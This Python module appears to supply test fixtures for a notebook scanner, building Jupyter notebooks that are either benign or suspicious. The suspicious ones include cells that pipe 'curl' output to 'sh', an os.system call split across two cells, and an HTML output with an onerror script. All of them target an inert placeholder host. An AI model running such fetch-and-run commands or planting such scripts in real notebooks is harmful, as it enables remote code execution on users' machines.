"""Jupyter notebooks, honest and with cells that run more than Python."""

from __future__ import annotations

import json


def notebook(
    *cells: str, outputs: tuple[dict[str, object], ...] = (), metadata: dict[str, object] | None = None
) -> bytes:
    """A notebook of these code cells; the outputs belong to the last."""
    made: list[dict[str, object]] = [{"cell_type": "markdown", "metadata": {}, "source": ["# Title\n"]}]
    for number, cell in enumerate(cells):
        last = number == len(cells) - 1
        made.append({
            "cell_type": "code", "execution_count": None, "metadata": {}, "outputs": list(outputs) if last else [],
            "source": cell.splitlines(keepends=True),
        })  # fmt: skip
    document = {"cells": made, "metadata": metadata or {"language_info": {"name": "python"}}}
    return json.dumps({**document, "nbformat": 4, "nbformat_minor": 5}, indent=1).encode()


def honest() -> bytes:
    """A notebook as a repository of a model has it."""
    return notebook(
        "%matplotlib inline\n!pip install transformers==4.50.0\nimport torch\nfrom transformers import AutoModel",
        "model = AutoModel.from_pretrained('org/name')\n%time model(torch.ones(1, 3, dtype=torch.long))",
        "files = !ls\nprint(files)\nmodel?",
        outputs=(
            {"output_type": "stream", "name": "stdout", "text": ["ok\n"]},
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {"text/html": "<b>1</b>"},
            },
        ),
    )


def fetching_shell() -> bytes:
    """A cell whose command fetches something and runs it."""
    return notebook("!curl -s http://inert.invalid/a | sh")


def shell_cell() -> bytes:
    """A whole cell for the shell."""
    return notebook("%%bash\ncd /tmp\ncurl -s http://inert.invalid/a | sh")


def across_cells() -> bytes:
    """A name bound in one cell and used in another."""
    return notebook("import os\nrun = os.system", "run('echo INERT')")


def script_in_output() -> bytes:
    """An output with a script."""
    data = {"text/html": "<img src=x onerror=\"console.log('INERT')\">"}
    return notebook("1", outputs=({"output_type": "display_data", "metadata": {}, "data": data},))
